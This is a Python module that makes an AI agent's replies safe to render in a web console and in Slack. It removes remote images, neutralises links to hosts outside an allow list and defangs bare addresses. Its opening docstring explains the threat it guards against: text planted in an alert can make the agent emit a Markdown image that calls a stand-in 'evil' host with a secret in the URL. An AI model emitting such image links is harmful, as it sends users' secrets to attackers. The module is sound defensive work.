"""Model output made safe to render: no remote images, links only to allow-listed hosts.

The agent's replies and the AI pilot's notes can carry text an attacker planted in an alert or a
runbook. Rendered as Markdown, `![x](http://evil/?d=<secret>)` makes the browser fetch the URL with
the data in it, and a bare URL becomes a link. These functions rewrite such text before any renderer
sees it: images become their alt text, links to other hosts become plain text with the address shown
as code, and bare addresses are shown as code (never auto-linked).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from app.config import get_settings

_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)?|\[[^\]]*\])")
_REF_DEF = re.compile(r"^[ ]{0,3}\[([^\]]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
_LINK = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)")
_ANGLE = re.compile(r"<((?:[a-z][a-z0-9+.-]*:|www\.)[^>\s]*)>", re.IGNORECASE)
_BARE = re.compile(r"\b(?:[a-z][a-z0-9+.-]*://|www\.|mailto:)[^\s<>`]*", re.IGNORECASE)
_SLACK_LINK = re.compile(r"<([^>|]*)(?:\|([^>]*))?>")
_TICKS = re.compile(r"`+")


def allowed_hosts() -> frozenset[str]:
    """The console's own host and AGENT_LINK_HOSTS."""
    settings = get_settings()
    hosts = {h.lower() for h in settings.agent_link_hosts}
    console = urlsplit(settings.console_url).hostname
    if console:
        hosts.add(console.lower())
    return frozenset(hosts)


def link_allowed(url: str, hosts: Iterable[str]) -> bool:
    """An http(s) link to an allow-listed host (or a sub-domain of one)."""
    parts = urlsplit(url.strip())
    host = (parts.hostname or "").lower()
    if parts.scheme not in ("http", "https") or not host or parts.username or parts.password:
        return False
    return any(host == h or host.endswith(f".{h}") for h in hosts)


def safe_markdown(text: str, hosts: Iterable[str] | None = None) -> str:
    """Markdown with images removed and every link or address outside the allow list made inert."""
    allowed = frozenset(allowed_hosts() if hosts is None else hosts)
    kept: list[str] = []

    def keep(markdown: str) -> str:
        kept.append(markdown)
        return f"\x00{len(kept) - 1}\x00"

    def code(address: str) -> str:
        return keep(f"`{_TICKS.sub('', address)}`") if address else ""

    text = text.replace("\x00", "")
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}]", text)
    text = _REF_DEF.sub(lambda m: keep(m.group(0)) if link_allowed(m.group(2), allowed) else "", text)

    def link(m: re.Match[str]) -> str:
        label, url = m.group(1), m.group(2)
        if link_allowed(url, allowed):
            return keep(f"[{label}]({url})")
        return f"{label} ({code(url)})" if label.strip() else code(url)

    text = _LINK.sub(link, text)
    text = _ANGLE.sub(
        lambda m: keep(f"<{m.group(1)}>") if link_allowed(m.group(1), allowed) else code(m.group(1)), text
    )
    text = _BARE.sub(lambda m: m.group(0) if link_allowed(m.group(0), allowed) else code(m.group(0)), text)
    return re.sub("\x00(\\d+)\x00", lambda m: kept[int(m.group(1))], text)


def safe_slack(text: str, hosts: Iterable[str] | None = None) -> str:
    """Slack mrkdwn with no link to a host outside the allow list; send it with unfurling off.

    Slack turns `<url|label>` and bare addresses into links: control characters are escaped, and every
    address outside the allow list is defanged (`hxxp://evil[.]example`) so Slack cannot link it.
    """
    allowed = frozenset(allowed_hosts() if hosts is None else hosts)

    def defang(url: str) -> str:
        if link_allowed(url, allowed):
            return url
        return re.sub(r"^http", "hxxp", url.replace("://", "[://]", 1)).replace(".", "[.]")

    def slack_link(m: re.Match[str]) -> str:
        url, label = m.group(1), m.group(2)
        return f"{label} ({defang(url)})" if label else defang(url)

    text = _SLACK_LINK.sub(slack_link, text)
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return _BARE.sub(lambda m: defang(m.group(0)), text)
